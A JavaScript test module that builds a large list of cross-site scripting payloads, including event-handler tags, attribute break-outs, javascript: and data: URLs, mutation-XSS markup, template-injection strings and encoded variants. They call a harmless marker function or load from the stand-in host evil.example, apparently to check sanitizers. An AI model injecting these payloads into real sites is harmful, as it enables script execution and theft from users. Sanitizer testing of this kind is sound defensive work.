// Strings that become code where a page takes text for markup. Made from families rather than copied: elements that load,
// handlers that run by themselves, addresses that are code, ways out of attributes, text and comments, and broken markup that
// parsers repair into something else. The families follow OWASP's "XSS Filter Evasion" and "DOM based XSS" cheat sheets.

const CALL = 'planted()';
/** No page may ask there; the proxy of the suite would tell. */
const AWAY = 'https://evil.example/x';

const HANDLERS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'onpointerenter', 'onanimationstart', 'ontoggle', 'onbegin', 'onpageshow', 'onscrollend', 'onbeforetoggle', 'oncontentvisibilityautostatechange'];
const ELEMENTS = [
  'img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'input autofocus', 'details open', 'iframe', 'object data=x', 'embed src=x',
  'marquee', 'select autofocus', 'textarea autofocus', 'a href=# tabindex=1', 'button popovertarget=x', 'style', 'link rel=stylesheet href=x', 'math', 'div popover id=x', 'custom-part style=content-visibility:auto',
];
const WAYS_OUT = ['', '"', "'", '">', "'>", '`>', '-->', ']]>', '*/', '</p>', '</title>', '</textarea>', '</style>', '</script>', '</noscript>', '</template>', '\\"', '&quot;>', '%22%3E', '\\u0022>'];
const INSIDE = [`<script>${CALL}</script>`, `<svg><script>${CALL}</script></svg>`, `<img src=x onerror=${CALL}>`, `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`, `<svg/onload=${CALL}>`];
const ADDRESSES = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `java\tscript:${CALL}`, `java\nscript:${CALL}`, ` javascript:${CALL}`, `\u0001javascript:${CALL}`, `javascript&colon;${CALL}`, `&#106;avascript:${CALL}`,
  `&#x6A;&#x61;vascript:${CALL}`, `javascript://https://a.example/%0a${CALL}`, `data:text/html,<script>parent.${CALL}</script>`, 'data:text/html;base64,PHNjcmlwdD5wbGFudGVkKCk8L3NjcmlwdD4=', `vbscript:${CALL}`,
  'blob:https://a.example/x', 'filesystem:https://a.example/x', 'view-source:https://a.example/', 'jar:https://a.example!/x', `https://a.example/"onclick="${CALL}`, `https://a.example/'><script>${CALL}</script>`, `www.a.example/\u202e${CALL}`,
  `mailto:a@b.example?subject="><img src=x onerror=${CALL}>`, `https://a.example@evil.example/<svg onload=${CALL}>`, '//evil.example/x.js', `https:javascript:${CALL}`,
];
const CARRIERS = [address => address, address => `<a href="${address}">x</a>`, address => `[x](${address})`, address => `![x](${address})`, address => `<form action="${address}"><input type=submit autofocus>`, address => `<iframe src="${address}">`];
const LOADERS = ['img src', 'image href', 'script src', 'link rel=stylesheet href', 'link rel=preload as=script href', 'link rel=icon href', 'iframe src', 'object data', 'embed src', 'video poster', 'audio src', 'base href', 'meta http-equiv=refresh content=0;url', 'input type=image src', 'body background', 'form action', 'svg><use href', 'portal src', 'frame src', 'track src'];
const REPAIRED = [
  `<svg></p><style><a id="</style><img src=x onerror=${CALL}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`, `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`, `<img src=x:x onerror\x00=${CALL}>`, `<scr<script>ipt>${CALL}</scr</script>ipt>`, `<<script>${CALL}//<</script>`, `<img """><script>${CALL}</script>">`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`, `<svg><set href=#x attributeName=href to=javascript:${CALL}><a id=x><text>x`, `<template shadowrootmode=open><script>${CALL}</script></template>`, `<x onclick=${CALL} id=x>`, `<img name=getElementById>`, `<form id=sotto><input name=core>`,
  `<a id=location href=https://evil.example>`, `<style>@import '${AWAY}';</style>`, `<style>*{background:url(${AWAY})}</style>`, `<div style="background:url(${AWAY})">`, `{{constructor.constructor('${CALL}')()}}`, `\${${CALL}}`, `{@html '<img src=x onerror=${CALL}>'}`, `<%= ${CALL} %>`,
  `#{${CALL}}`, '__proto__', 'constructor', '{"__proto__":{"planted":1}}', `\u2028${CALL}`, `\ufeff<script>${CALL}</script>`, `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`, `%3Cscript%3E${CALL}%3C/script%3E`, `&lt;script&gt;${CALL}&lt;/script&gt;`, `\\x3cscript\\x3e${CALL}\\x3c/script\\x3e`,
  `<!--[if gte IE 4]><script>${CALL}</script><![endif]-->`, `<?xml version="1.0"?><?xml-stylesheet href="javascript:${CALL}"?>`, `<!ENTITY x SYSTEM "${AWAY}">`, `<plaintext>`, `<xmp><script>${CALL}</script>`, `<table background=${AWAY}>`, `<bdo dir=rtl>`, '\u202e<b>x</b>', `<object type=text/html data=${AWAY}>`,
];

export const payloads = [...new Set([
  ...ELEMENTS.flatMap(element => HANDLERS.map(handler => `<${element} ${handler}=${CALL}>`)),
  ...WAYS_OUT.flatMap(way => INSIDE.map(inside => way + inside)),
  ...CARRIERS.flatMap(carry => ADDRESSES.map(carry)),
  ...LOADERS.map(loader => `<${loader}=${AWAY}>`),
  ...REPAIRED,
])];
